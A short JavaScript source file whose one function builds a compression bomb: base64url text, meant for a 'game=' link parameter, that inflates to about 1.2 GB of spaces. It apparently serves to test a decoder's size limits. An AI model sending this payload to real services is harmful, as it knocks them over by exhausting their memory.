import { constants, deflateRawSync } from "node:zlib";

/** What stands behind "game=" in a link that inflates to 1.2 GB: the same packed megabyte of blanks, again and again. */
export function bomb() {
    const some = deflateRawSync(Buffer.alloc(1 << 20, " "), { finishFlush: constants.Z_FULL_FLUSH });
    return Buffer.concat([...Array(1200).fill(some), Buffer.from([3, 0])]).toString("base64url");
}
